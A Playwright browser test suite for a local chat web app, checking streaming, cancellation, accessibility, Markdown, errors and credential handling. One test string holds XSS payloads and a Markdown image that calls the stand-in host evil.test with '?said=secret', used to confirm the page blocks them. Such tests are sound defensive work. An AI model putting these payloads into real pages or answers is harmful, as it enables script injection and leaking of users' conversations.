/**
 * `npm run test:browser`: the chat page of `npm start` in Chromium, over a Bedrock that counts who leaves early. Prints a line for each
 * check and where the screenshots are, and ends with 1 when a check failed; where there is no Chromium it says so and ends with 0.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, type BrowserContextOptions, chromium, type Page } from 'playwright-core';
import { startBedrockSimulator } from '../../src/local/bedrock/simulator.ts';
import { until } from '../helpers/gateway.ts';
import { ACCESS_KEY, KEY, type Running, runScript, start, stop } from '../helpers/process.ts';
import { check, expect, inChromium } from './chromium.ts';

const QUESTION = 'What is a Faraday cage?';
const CURATED = 'What should I check first when a whole site is down?';
/** Comes in 120 pieces of 20 ms. */
const LONG = `ECHO ${'all of this takes a while '.repeat(100)}`;

const ILLUSTRATED = {
  pk: 'How large may the holes of a Faraday cage be?',
  answer: `Small beside the **wavelength** that is to stay out: a tenth of it is a good rule.

| signal | frequency | wavelength | largest hole |
|---|---:|---:|---:|
| FM radio | 100 MHz | 3 m | 30 cm |
| Wi-Fi | 2.4 GHz | 12 cm | 1 cm |

To work it out for another one:

\`\`\`ts
const SPEED_OF_LIGHT = 299_792_458; // metres per second
const largestHole = (hertz: number) => SPEED_OF_LIGHT / hertz / 10;
\`\`\``,
};

type Opened = {
  readonly page: Page;
  /** What the console and the page itself complained of. */
  readonly problems: string[];
  /** Hosts that were asked for anything. */
  readonly hosts: Set<string>;
};

async function openPage(browser: Browser, url: string, options: BrowserContextOptions = {}): Promise<Opened> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 820 }, ...options });
  const page = await context.newPage();
  page.setDefaultTimeout(15_000);
  const problems: string[] = [];
  const hosts = new Set<string>();
  page.on('console', (message) => {
    if (['error', 'warning'].includes(message.type())) problems.push(message.text());
  });
  page.on('pageerror', (error) => problems.push(error.message));
  page.on('dialog', (dialog) => {
    problems.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => hosts.add(new URL(request.url()).host));
  await page.goto(url);
  return { page, problems, hosts };
}

/** The newest turn. */
const turn = (page: Page) => page.locator('.turn').last();

async function ask(page: Page, question: string) {
  const before = await page.locator('.turn').count();
  await page.fill('#question', question);
  await page.press('#question', 'Enter');
  await page.locator('.turn').nth(before).waitFor();
}

/** Waits for the end of the newest answer. */
async function reach(page: Page, state: string) {
  await page
    .locator(`.turn:last-child:not([data-state=answering], [data-state=waiting])[data-state]`)
    .waitFor();
  const reached = await turn(page).getAttribute('data-state');
  expect(reached === state, `the answer ended as ${reached}`);
}

const textOf = (page: Page) => turn(page).locator('.text').innerText();
const factsOf = (page: Page) => turn(page).locator('.facts').innerText();

/** Runs in the page: the lengths of the text that it shows, frame by frame. */
const watchLengths = `window.lengths = []; (function look() {
  const length = document.querySelector('.turn:last-child .text')?.textContent.length ?? 0;
  if (length !== window.lengths.at(-1)) window.lengths.push(length);
  requestAnimationFrame(look);
})()`;

async function checkAsking({ page }: Opened): Promise<string> {
  await page.evaluate(watchLengths);
  await ask(page, QUESTION);
  await reach(page, 'complete');
  const lengths = (await page.evaluate('window.lengths')) as number[];
  const rises = lengths.filter((length, index) => length > (lengths[index - 1] ?? 0));
  expect(rises.length > 10, `the text grew in ${rises.length} steps`);
  const facts = await factsOf(page);
  expect(/first token \d+ ms/.test(facts) && /\d tokens\/s/.test(facts) && /\d out/.test(facts), facts);
  const plot = await turn(page).getByRole('img').getAttribute('aria-label');
  expect(/The text arrived in \d{2,} pieces/.test(plot ?? ''), `${plot}`);
  expect((await page.textContent('#announcer')) === 'Answer finished.', 'nothing was announced');
  return `${rises.length} steps; ${facts.replaceAll('\n', ', ')}`;
}

type Upstream = { readonly ledger: { readonly closedEarly: number; readonly open: number } };

async function checkStopping(
  { page }: Opened,
  { ledger }: Upstream,
  how: () => Promise<void>,
): Promise<string> {
  const before = ledger.closedEarly;
  await ask(page, LONG);
  // The page forbids to evaluate a text, which waiting for a function does.
  while ((await textOf(page)).length < 100) await page.waitForTimeout(20);
  const askedAt = performance.now();
  await how();
  await reach(page, 'cancelled');
  const shownMs = Math.round(performance.now() - askedAt);
  await until(() => ledger.open === 0);
  expect(ledger.closedEarly === before + 1, `Bedrock saw ${ledger.closedEarly - before} leave early`);
  expect((await turn(page).innerText()).includes('Stopped before its end.'), 'it does not say so');
  return `cancelled is shown after ${shownMs} ms, and Bedrock’s answer was closed early`;
}

async function checkReload({ page }: Opened): Promise<string> {
  const address = page.url();
  expect(/#chat=[\w-]+$/.test(address), address);
  await page.reload();
  await page.locator('.turn').nth(1).waitFor();
  const questions = await page.locator('.question').allInnerTexts();
  expect(questions[0] === QUESTION && questions.length === 2, questions.join('; '));
  expect((await turn(page).getAttribute('data-state')) === 'cancelled', 'the stopped turn is shown as whole');
  const current = await page.locator('#chats a[aria-current=page]').innerText();
  expect(current.startsWith(QUESTION), current);
  return `${questions.length} turns, and “${current.split('\n')[0]}” is marked in the list`;
}

/** Its answer is not the business of the conversation that is open by then. */
async function checkLeaving({ page }: Opened): Promise<string> {
  await page.click('#new-chat');
  await ask(page, `ECHO ${'word '.repeat(80)}`);
  await page.locator('.turn[data-state=answering]').waitFor();
  await page.waitForURL(/#chat=/);
  await page.click('#new-chat');
  expect((await page.locator('.turn').count()) === 0, 'the new conversation is not empty');
  expect(await page.locator('#send').isVisible(), 'the new conversation cannot be asked');
  await page.goBack();
  await page.locator('.turn[data-state=answering]').waitFor();
  await reach(page, 'complete');
  expect((await textOf(page)).trim().split(' ').length === 80, await textOf(page));
  await page.locator('#chats a[aria-current]', { hasText: 'ECHO word' }).waitFor();
  return 'it went on, and was there when its conversation was opened again';
}

async function checkSocket({ page }: Opened): Promise<string> {
  const sockets: string[] = [];
  page.on('websocket', (socket) => sockets.push(socket.url()));
  await page.getByRole('radio', { name: 'WebSocket' }).check({ force: true });
  await ask(page, `${QUESTION} And why?`);
  await reach(page, 'complete');
  expect((await textOf(page)).includes('Faraday'), await textOf(page));
  expect(sockets.length === 1, `${sockets.length} sockets`);
  return `${await factsOf(page)}`.replaceAll('\n', ', ');
}

/** The samples, and one for the pictures. */
function writeAnswers(): string {
  const samples: object[] = JSON.parse(readFileSync('samples/network-outages.json', 'utf8'));
  const path = join(mkdtempSync(join(tmpdir(), 'page-')), 'answers.json');
  writeFileSync(path, JSON.stringify([...samples, ILLUSTRATED]));
  return path;
}

async function checkCurated({ page }: Opened, gateway: Running): Promise<string> {
  const [, awsPort = ''] = /Tables +built in, at \S+:(\d+)/.exec(gateway.output()) ?? [];
  const upload = await runScript('scripts/bulk-upload.ts', [writeAnswers(), '--local'], {
    AWS_PORT: awsPort,
  });
  expect(upload.code === 0, upload.err);
  await page.click('#new-chat');
  await ask(page, CURATED);
  await reach(page, 'complete');
  expect((await turn(page).locator('.badge').innerText()) === 'Curated', await factsOf(page));
  expect((await turn(page).locator('ol > li').count()) === 4, 'its list is no list');
  return (await factsOf(page)).replaceAll('\n', ', ');
}

const HOSTILE = `ECHO <script>window.hacked = 'script'</script>
<img src="x" onerror="window.hacked = 'onerror'"> <svg onload="window.hacked = 'svg'"></svg>

[link](javascript:window.hacked='link') <a href="javascript:window.hacked='html'">html</a> [here](/v1/chats)

![the conversation](https://evil.test/pixel.png?said=secret) <iframe src="https://evil.test/"></iframe>

<style>body { background: url(https://evil.test/style) }</style>

[good](https://example.test/page)`;

async function checkHostile({ page, hosts }: Opened): Promise<string> {
  await ask(page, HOSTILE);
  await reach(page, 'complete');
  const answer = turn(page).locator('.text');
  for (const link of await answer.locator('a').all())
    expect((await link.getAttribute('target')) === '_blank', 'a link');
  const addresses = await answer
    .locator('a[href]')
    .evaluateAll((links) => links.map((link) => `${link.getAttribute('href')} ${link.getAttribute('rel')}`));
  const safe = ['https://evil.test/pixel.png?said=secret', 'https://example.test/page'];
  expect(addresses.join() === safe.map((url) => `${url} noopener noreferrer`).join(), addresses.join());
  expect(
    (await answer.locator('img, script, svg, iframe, style, [onerror]').count()) === 0,
    'elements of the answer',
  );
  expect(
    (await answer.innerText()).includes("<script>window.hacked = 'script'</script>"),
    'HTML is not shown as text',
  );
  await page.waitForTimeout(100);
  expect((await page.evaluate('window.hacked')) === undefined, `${await page.evaluate('window.hacked')} ran`);
  expect(
    [...hosts].every((host) => host.startsWith('127.0.0.1:')),
    [...hosts].join(),
  );
  return `nothing ran, and only ${[...hosts].join()} was asked`;
}

async function chooseModel(page: Page, id: string) {
  await page.selectOption('#model', { label: 'Another model' });
  await page.fill('#other-model', id);
}

async function checkErrors(opened: Opened): Promise<string> {
  const { page, problems } = opened;
  const said: string[] = [];
  for (const door of ['SSE', 'WebSocket']) {
    await page.getByRole('radio', { name: door }).check({ force: true });
    for (const fault of ['reset-mid-stream', 'throttled']) {
      await chooseModel(page, `simulator.${fault}`);
      await ask(page, `${QUESTION} ${door} ${fault}`);
      await reach(page, 'failed');
      const note = await turn(page).locator('.note').innerText();
      expect(/^[A-Z].+\.\n/.test(note) && /Request [\w-]{36}/.test(note), note);
      expect(
        (await turn(page).getByRole('button', { name: 'Try again' }).count()) === 1,
        `no way back: ${note}`,
      );
      said.push(note.split('\n')[0] ?? '');
    }
  }
  await page.selectOption('#model', { index: 0 });
  await turn(page).getByRole('button', { name: 'Try again' }).click();
  await reach(page, 'complete');
  await page.getByRole('radio', { name: 'SSE' }).check({ force: true });
  // Chromium itself writes down a status of 429; nothing else may be there.
  const expected = problems.filter((problem) => /status of 429/.test(problem));
  expect(expected.length === 1 && problems.length === 1, problems.join('; '));
  problems.length = 0;
  return [...new Set(said)].join(' | ');
}

/** In a conversation that is longer than the screen. */
async function checkScrolling({ page }: Opened): Promise<string> {
  const newest = page.getByRole('button', { name: 'Newest' });
  const toEnd =
    "(pane => pane.scrollHeight - pane.scrollTop - pane.clientHeight)(document.querySelector('main'))";
  await ask(page, 'ECHO one two three');
  await reach(page, 'complete');
  expect(Number(await page.evaluate(toEnd)) < 2, 'the newest text is out of sight');
  await page.evaluate("document.querySelector('main').scrollTop = 0");
  await newest.waitFor();
  await ask(page, 'ECHO four five six');
  expect(Number(await page.evaluate(toEnd)) < 2, 'the question that was just asked is out of sight');
  await page.evaluate("document.querySelector('main').scrollTop = 0");
  await reach(page, 'complete');
  expect(Number(await page.evaluate(toEnd)) > 100, 'who reads above is torn away');
  await newest.click();
  await newest.waitFor({ state: 'hidden' });
  return 'follows the text, and leaves alone who reads above';
}

/** A short answer that nobody keeps, and a second one that knows of it all the same; the settings outlive a reload. */
async function checkSettings({ page }: Opened): Promise<string> {
  await page.click('#new-chat');
  await page.click('#open-settings');
  await page.getByLabel('Most tokens').fill('25');
  await page.getByLabel('History').selectOption('no');
  await page.getByRole('button', { name: 'Done' }).click();
  for (const question of ['Why is the sky blue?', 'And at dusk?']) {
    await ask(page, question);
    await reach(page, 'complete');
  }
  const shown = await turn(page).innerText();
  expect(/Before it came 1 turn/.test(shown), `it does not know what was said: ${shown}`);
  expect(/Cut at its limit of tokens\./.test(shown) && /Not kept in the history/.test(shown), shown);
  expect(!page.url().includes('#chat'), page.url());
  await page.reload();
  const button = page.getByRole('button', { name: 'Settings (2)' });
  await button.click();
  await page.getByRole('button', { name: 'Reset' }).click();
  await page.getByRole('button', { name: 'Done' }).click();
  await button.waitFor({ state: 'detached' });
  return 'cut at 25 tokens, not kept, and what was said is sent along';
}

/** A gateway whose stream is cut on its way, which the page must not take for whole. */
async function checkCutStream({ page }: Opened): Promise<string> {
  const body =
    'event: start\ndata: {"model":"m","cached":false}\n\nevent: delta\ndata: {"text":"Half of"}\n\n';
  await page.route('**/v1/chat', (route) => route.fulfill({ contentType: 'text/event-stream', body }));
  await ask(page, 'Will you be cut?');
  await reach(page, 'failed');
  await page.unroute('**/v1/chat');
  const shown = await turn(page).innerText();
  expect(shown.includes('Half of') && shown.includes('The answer broke off before its end.'), shown);
  return 'The answer broke off before its end.';
}

async function checkUnreachable({ page, problems }: Opened): Promise<string> {
  await page.route('**/v1/chat', (route) => route.abort());
  await ask(page, 'Is anybody there?');
  await reach(page, 'failed');
  await page.unroute('**/v1/chat');
  expect(
    problems.every((problem) => problem.includes('ERR_FAILED')),
    problems.join('; '),
  );
  problems.length = 0;
  const note = await turn(page).locator('.note p').first().innerText();
  expect(/cannot be reached/.test(note), note);
  return note;
}

async function checkSigned({ page }: Opened, { functionUrl }: Running): Promise<string> {
  await page.click('#open-connection');
  await page.getByRole('radio', { name: 'A gateway elsewhere' }).check({ force: true });
  await page.getByRole('radio', { name: 'AWS credentials' }).check({ force: true });
  await page.getByLabel('URL', { exact: true }).fill(functionUrl);
  await page.getByLabel('Access key id').fill(ACCESS_KEY.accessKeyId);
  await page.getByLabel('Secret access key').fill('wrong');
  await page.click('#connect');
  const refusal = await page
    .getByRole('alert')
    .filter({ hasText: /signature/ })
    .innerText();
  await page.getByLabel('Secret access key').fill(ACCESS_KEY.secretAccessKey);
  await page.click('#connect');
  await page.locator('#connection').waitFor({ state: 'hidden' });
  expect(await page.getByRole('radio', { name: 'WebSocket' }).isDisabled(), 'a WebSocket is offered');
  await ask(page, `${QUESTION} Signed.`);
  await reach(page, 'complete');
  const kept = await page.evaluate('JSON.stringify([localStorage, sessionStorage, location.href])');
  expect(!String(kept).includes(ACCESS_KEY.secretAccessKey), 'the secret is kept');
  expect((await page.locator('#chats a').count()) === 1, 'the list is that of another tenant');
  return `${refusal} Then: ${(await factsOf(page)).replaceAll('\n', ', ')}`;
}

async function checkKeyPanel(browser: Browser, gateway: Running): Promise<string> {
  const { page, problems } = await openPage(browser, gateway.url);
  const dialog = page.getByRole('dialog', { name: 'Connection' });
  await dialog.waitFor();
  expect(!(await page.content()).includes(KEY), 'the key is in the page');
  await dialog.getByRole('textbox', { name: 'API key' }).fill('a-wrong-key');
  await page.keyboard.press('Enter');
  const problem = page.locator('#connection-problem', { hasText: 'not known' });
  await problem.waitFor();
  const sentence = await problem.innerText();
  await dialog.getByRole('textbox', { name: 'API key' }).fill(KEY);
  await page.keyboard.press('Enter');
  await dialog.waitFor({ state: 'hidden' });
  await ask(page, 'ECHO let in');
  await reach(page, 'complete');
  expect(!String(await page.evaluate('JSON.stringify(localStorage)')).includes(KEY), 'the key is kept');
  expect(problems.length === 1 && /status of 401/.test(problems.join()), problems.join('; '));
  await page.context().close();
  return sentence;
}

/** The ring of what is focused, or of the form or the choice around it. Runs in the page. */
const SHOWN_FOCUS = `(() => {
  const { activeElement: element } = document;
  const style = [element, element.nextElementSibling].filter(Boolean).map((one) => getComputedStyle(one).outlineStyle);
  const ring = getComputedStyle(element.closest('form') ?? document.body).boxShadow;
  return (style.find((outline) => outline !== 'none') ?? 'none') + ' ' + ring;
})()`;

/** Nothing but keys. */
async function checkKeyboard(browser: Browser, url: string): Promise<string> {
  const { page } = await openPage(browser, url);
  const focused = () =>
    page.evaluate(
      "(document.activeElement.ariaLabel || document.activeElement.textContent || document.activeElement.id).replace(/\\s+/g, ' ').trim().slice(0, 40)",
    ) as Promise<string>;
  await page.getByText('What would you like to know?').waitFor();
  const stations: string[] = [];
  // All the way round, through the browser's own controls, back to where the page begins: at the question.
  do {
    await page.keyboard.press('Tab');
    if ((await page.evaluate('document.activeElement.tagName')) === 'BODY') continue;
    stations.push(await focused());
    const outline = await page.evaluate(SHOWN_FOCUS);
    expect(outline !== 'none none', `${stations.at(-1)} does not show that it is focused`);
  } while (stations.at(-1) !== 'question' && stations.length < 30);
  const skip = stations.indexOf('Skip to the question');
  const order = [
    skip,
    ...['New conversation', 'Connection', 'question'].map((name) => stations.indexOf(name)),
  ];
  expect(
    order.every((at, index) => at > (order[index - 1] ?? -1)),
    stations.join(', '),
  );
  await page.keyboard.type('ECHO one');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('two');
  await page.keyboard.press('Enter');
  await reach(page, 'complete');
  expect((await textOf(page)).replace('\n', ' ') === 'one two', await textOf(page));
  await page.keyboard.type(LONG.slice(0, 1000));
  await page.keyboard.press('Enter');
  await page.locator('.turn:last-child[data-state=answering]').waitFor();
  await page.keyboard.press('Escape');
  await reach(page, 'cancelled');
  for (let presses = 0; presses < 40 && (await focused()) !== 'Delete conversation: ECHO one two'; presses++)
    await page.keyboard.press('Shift+Tab');
  await page.keyboard.press('Enter');
  await page.getByRole('alertdialog').waitFor();
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await page.getByText('What would you like to know?').waitFor();
  await page.locator('#chats a', { hasText: 'ECHO one two' }).waitFor({ state: 'detached' });
  await page.context().close();
  return `asked, stopped and deleted; ${stations.length} stops to the question`;
}

/** What a screen reader is told, and what an eye can read. Runs in the page. */
const findBarriers = `(() => {
  const barriers = [];
  const isSeen = (element) => element.checkVisibility({ visibilityProperty: true }) && !element.closest('[inert]');
  for (const control of document.querySelectorAll('button, input, select, textarea, a[href]')) {
    if (!isSeen(control)) continue;
    const name = control.ariaLabel || [...(control.labels ?? [])].map((label) => label.textContent).join() || control.textContent;
    if (!name.trim()) barriers.push('no name: ' + control.outerHTML.slice(0, 80));
  }
  const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id);
  for (const id of new Set(ids)) if (ids.filter((other) => other === id).length > 1) barriers.push('twice: ' + id);
  const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
  const toRgb = (colour) => {
    canvas.clearRect(0, 0, 1, 1);
    canvas.fillStyle = colour;
    canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const luminance = (rgb) => rgb.slice(0, 3).map((value) => value / 255)
    .map((value) => (value <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4))
    .reduce((sum, value, index) => sum + value * [0.2126, 0.7152, 0.0722][index], 0);
  const groundOf = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const rgb = toRgb(getComputedStyle(at).backgroundColor);
      if (rgb[3] === 255) return rgb;
    }
    return [255, 255, 255];
  };
  let lowest = 21;
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    if (!walker.currentNode.textContent.trim() || !isSeen(element) || element.closest('.unseen, script, option, :disabled')) continue;
    const [text, ground] = [toRgb(getComputedStyle(element).color), groundOf(element)].map(luminance);
    const contrast = (Math.max(text, ground) + 0.05) / (Math.min(text, ground) + 0.05);
    lowest = Math.min(lowest, contrast);
    if (contrast < 4.5) barriers.push(contrast.toFixed(2) + ': ' + walker.currentNode.textContent.slice(0, 40));
  }
  return { barriers, lowest };
})()`;

const LANDMARKS = [
  'navigation "Conversations"',
  'main "Conversation"',
  'form "Ask"',
  'banner',
  'contentinfo',
];

async function checkAccess({ page }: Opened): Promise<string> {
  const figures: string[] = [];
  for (const theme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme: theme });
    for (const opener of ['', '#open-settings', '#open-connection']) {
      if (opener) await page.click(opener);
      const { barriers, lowest } = (await page.evaluate(findBarriers)) as {
        barriers: string[];
        lowest: number;
      };
      expect(barriers.length === 0, `${theme} ${opener}: ${barriers.join('; ')}`);
      if (opener) await page.keyboard.press('Escape');
      else figures.push(`${theme} ${lowest.toFixed(1)}`);
    }
  }
  const tree = await page.locator('body').ariaSnapshot();
  for (const landmark of LANDMARKS) expect(tree.includes(landmark), `no ${landmark}`);
  for (const part of ['heading "Chat', 'textbox "Question"', 'button "Send"', 'article "Answer"', 'status'])
    expect(tree.includes(part), `no ${part}`);
  return `all controls have names; the lowest contrast: ${figures.join(', ')}`;
}

async function checkMarkdown({ page }: Opened): Promise<string> {
  await page.click('#new-chat');
  await ask(page, ILLUSTRATED.pk);
  await reach(page, 'complete');
  const aligned = await page.evaluate("getComputedStyle(document.querySelectorAll('.turn td')[3]).textAlign");
  expect(aligned === 'right', `a number is aligned ${aligned}`);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copy' }).click();
  await page.getByRole('button', { name: 'Copied' }).waitFor();
  const copied = String(await page.evaluate('navigator.clipboard.readText()'));
  expect(copied.startsWith('const SPEED_OF_LIGHT') && !copied.includes('Copy'), `copied: ${copied}`);
  await page.getByRole('button', { name: 'Copy', exact: true }).waitFor();
  return 'a table with its numbers to the right, and code that can be copied';
}

/** The list is a drawer there. */
async function checkPhone({ page }: Opened): Promise<string> {
  await page.setViewportSize(PHONE);
  const width = await page.evaluate('document.documentElement.scrollWidth');
  expect(width === PHONE.width, `the page is ${width} pixels wide`);
  await page.locator('#new-chat').waitFor({ state: 'hidden' });
  await page.click('#open-list');
  await page
    .getByRole('link', { name: /Faraday/ })
    .first()
    .waitFor();
  await page.keyboard.press('Escape');
  await page.locator('#new-chat').waitFor({ state: 'hidden' });
  expect((await page.evaluate('document.activeElement.id')) === 'open-list', 'the focus is lost');
  return `nothing is wider than ${width} pixels, and Escape closes the drawer`;
}

const PHONE = { width: 390, height: 844 };

/** Pictures of a conversation with Markdown and a curated answer. */
async function takePictures({ page }: Opened, folder: string): Promise<string> {
  const take = async (name: string, theme: 'light' | 'dark') => {
    await page.focus('#question');
    await page.mouse.move(200, 500);
    await page.emulateMedia({ colorScheme: theme });
    await page.waitForTimeout(250);
    await page.screenshot({ path: join(folder, name) });
  };
  await take('phone.png', 'light');
  await page.setViewportSize({ width: 1280, height: 860 });
  await ask(page, 'And how would I test that?');
  await reach(page, 'complete');
  await take('light.png', 'light');
  await take('dark.png', 'dark');
  return folder;
}

async function main(executablePath: string) {
  const upstream = await startBedrockSimulator();
  const [gateway, guarded] = await Promise.all([
    start({ LOCAL_API_KEYS: '', AWS_ENDPOINT_URL_BEDROCK_RUNTIME: upstream.url }),
    start(),
  ]);
  const browser = await chromium.launch({ executablePath });
  const opened = await openPage(browser, gateway.url);
  const { page, problems } = opened;
  await page.locator('#place', { hasText: 'this laptop' }).waitFor();

  await check('tokens are shown as they come', () => checkAsking(opened));
  await check('Stop closes the answer at Bedrock', () =>
    checkStopping(opened, upstream, () => page.click('#stop')),
  );
  await check('a reload finds the conversation', () => checkReload(opened));
  await check('the WebSocket', () => checkSocket(opened));
  await check('Stop over the WebSocket', () => checkStopping(opened, upstream, () => page.click('#stop')));
  await check('a curated answer', () => checkCurated(opened, gateway));
  await check('an answer whose conversation is left', () => checkLeaving(opened));
  await check('script in an answer', () => checkHostile(opened));
  await check('the console', async () => {
    expect(problems.length === 0, problems.join('; '));
    return 'nothing';
  });
  await check('errors are sentences', () => checkErrors(opened));
  await check('scrolling', () => checkScrolling(opened));
  await check('settings', () => checkSettings(opened));
  await check('a stream without its end', () => checkCutStream(opened));
  await check('a gateway that is gone', () => checkUnreachable(opened));
  await check('names, landmarks and contrast', () => checkAccess(opened));
  await check('Markdown', () => checkMarkdown(opened));
  await check('a phone', () => checkPhone(opened));
  await check('screenshots', () => takePictures(opened, mkdtempSync(join(tmpdir(), 'page-'))));
  await check('keys alone', () => checkKeyboard(browser, gateway.url));
  await check('a key is asked for', () => checkKeyPanel(browser, guarded));
  const signed = await openPage(browser, gateway.url);
  await check('AWS credentials', () => checkSigned(signed, gateway));
  await check('the console, in the end', async () => {
    expect(problems.length === 0, problems.join('; '));
    return 'nothing';
  });
  await browser.close();
  await Promise.all([stop(gateway), stop(guarded)]);
  await upstream.close();
}

await inChromium(main);
